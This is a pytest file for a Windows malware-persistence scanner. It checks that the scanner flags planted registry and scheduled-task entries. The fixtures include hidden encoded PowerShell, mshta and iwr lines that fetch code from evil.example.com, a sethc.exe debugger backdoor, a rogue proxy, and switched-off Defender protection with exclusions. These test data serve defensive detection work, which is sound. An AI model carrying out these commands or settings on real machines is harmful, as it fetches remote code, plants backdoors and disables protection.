"""Windows checks over a test registry; `-m wine` runs the bundle itself under Wine."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from lamsach.scanner.checks.context import Context
from lamsach.scanner.checks.registry import Registry, as_text
from lamsach.scanner.checks.settings import check_protection, check_proxy
from lamsach.scanner.checks.start_windows import start_windows, task_entries
from lamsach.scanner.control import Control
from lamsach.scanner.index import Index, build_index
from lamsach.scanner.options import Options

RUN = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
WINLOGON = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"
IMAGES = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
SERVICES = r"SYSTEM\CurrentControlSet\Services"
INTERNET = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Internet Settings"
DEFENDER = r"SOFTWARE\Microsoft\Windows Defender"
HIDDEN = "powershell.exe -w hidden -enc " + "QQBB" * 20


class FakeRegistry(Registry):
    """A registry of these values: (hive, key, name) -> data."""

    def __init__(self, values: dict[tuple[str, str, str], object]) -> None:
        self._values = values

    def values(self, hive: str, path: str) -> Iterator[tuple[str, str]]:
        yield from (
            (name, as_text(data)) for (h, p, name), data in self._values.items() if (h, p) == (hive, path)
        )

    def keys(self, hive: str, path: str) -> Iterator[str]:
        start = path + "\\" if path else ""
        inner = {
            p[len(start) :].split("\\")[0] for h, p, _ in self._values if h == hive and p.startswith(start)
        }
        yield from sorted(inner)


@pytest.fixture
def context(tmp_path: Path) -> Iterator[Context]:
    (tmp_path / "list.txt").write_text("evil.example.com\n203.0.113.9\n")
    loaded = build_index([str(tmp_path / "list.txt")])
    (tmp_path / "Windows/System32/Tasks").mkdir(parents=True)
    index = Index(loaded.path)
    yield Context(Options(root=str(tmp_path)), index, Control())
    index.close()
    loaded.close()


@pytest.mark.parametrize(
    ("key", "data", "reasons"),
    [
        (("HKLM", RUN, "Updater"), HIDDEN, {"start_habit"}),
        (("HKCU", RUN, "Updater"), "mshta http://evil.example.com/a.hta", {"start_habit", "listed_start"}),
        (("HKU", rf"S-1-5-21-1-2-3-1001\{RUN}", "x"), r"C:\x.exe --to 203.0.113.9", {"listed_start"}),
        (("HKLM", RUN, "OneDrive"), r'"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background', set()),
        (("HKLM", RUN, "odd type"), b"\xff\xfe\0\1", set()),
        (("HKLM", RUN, "number"), 7, set()),
        (("HKLM", RUN, "several"), ["a", HIDDEN], {"start_habit"}),
        (("HKLM", RUN, "none"), None, set()),
        (("HKLM", rf"{SERVICES}\Bad", "ImagePath"), "cmd /c " + HIDDEN, {"start_habit"}),
        (("HKLM", rf"{SERVICES}\Good", "ImagePath"), r"%SystemRoot%\system32\svchost.exe -k netsvcs", set()),
        (("HKLM", WINLOGON, "Shell"), "explorer.exe, C:\\Users\\Public\\x.exe", {"unusual_start"}),
        (("HKLM", WINLOGON, "Shell"), "explorer.exe", set()),
        (("HKLM", WINLOGON, "Userinit"), "C:\\Windows\\system32\\userinit.exe,", set()),
        (("HKLM", rf"{IMAGES}\sethc.exe", "Debugger"), "cmd.exe", {"unusual_start"}),
        (("HKLM", rf"{IMAGES}\a.exe", "MitigationOptions"), 256, set()),
    ],
)
def test_automatic_starts_are_found(
    context: Context, key: tuple[str, str, str], data: object, reasons: set[str]
) -> None:
    start_windows(context, FakeRegistry({key: data}))
    assert {finding.reason for finding in context.findings} == reasons


def test_no_tasks_and_no_tool_is_not_clean(context: Context) -> None:
    start_windows(context, FakeRegistry({}))
    assert {skip.subject.replace("\\", "/").rpartition("/")[2] for skip in context.skips} == {
        "Tasks",
        "subscription",
    }


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8"])
def test_a_task_gives_the_command_that_it_starts(encoding: str) -> None:
    text = "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden iwr http://evil.example.com</Arguments></Exec></Actions></Task>"
    (entry,) = task_entries(r"C:\Windows\System32\Tasks\x", text.encode(encoding))
    assert entry.command == "powershell.exe -w hidden iwr http://evil.example.com"
    assert not list(task_entries("x", b"\xff\xfe\0"))


@pytest.mark.parametrize(
    ("values", "reasons"),
    [
        ({"ProxyServer": "evil.example.com:80", "ProxyEnable": 0}, {"listed_proxy"}),
        ({"ProxyServer": "127.0.0.1:8888", "ProxyEnable": 1}, {"local_proxy"}),
        ({"ProxyServer": "127.0.0.1:8888", "ProxyEnable": 0}, set()),
        ({"AutoConfigURL": "file://C:/Users/Public/p.pac"}, {"local_proxy"}),
        ({"ProxyServer": "proxy.unit.example:3128", "ProxyEnable": 1}, set()),
    ],
)
def test_a_planted_proxy_is_found(context: Context, values: dict[str, object], reasons: set[str]) -> None:
    check_proxy(context, FakeRegistry({("HKCU", INTERNET, name): data for name, data in values.items()}))
    assert {finding.reason for finding in context.findings} == reasons


@pytest.mark.parametrize(
    ("key", "data", "found"),
    [
        ((rf"{DEFENDER}\Exclusions\Paths", "C:\\"), 0, [("exclusion", "suspicious")]),
        (
            (rf"{DEFENDER}\Exclusions\Paths", r"C:\Users\nam\AppData\Roaming\x"),
            0,
            [("exclusion", "suspicious")],
        ),
        ((rf"{DEFENDER}\Exclusions\Extensions", ".exe"), 0, [("exclusion", "suspicious")]),
        ((rf"{DEFENDER}\Exclusions\Paths", r"D:\SQL\Data"), 0, [("exclusion", "risk")]),
        (
            (rf"{DEFENDER}\Real-Time Protection", "DisableRealtimeMonitoring"),
            1,
            [("protection_off", "suspicious")],
        ),
        ((rf"{DEFENDER}\Real-Time Protection", "DisableRealtimeMonitoring"), 0, []),
    ],
)
def test_protection_that_is_switched_off_is_found(
    context: Context, key: tuple[str, str], data: object, found: list[tuple[str, str]]
) -> None:
    check_protection(context, FakeRegistry({("HKLM", *key): data}))
    assert [(finding.reason, finding.level.value) for finding in context.findings] == found
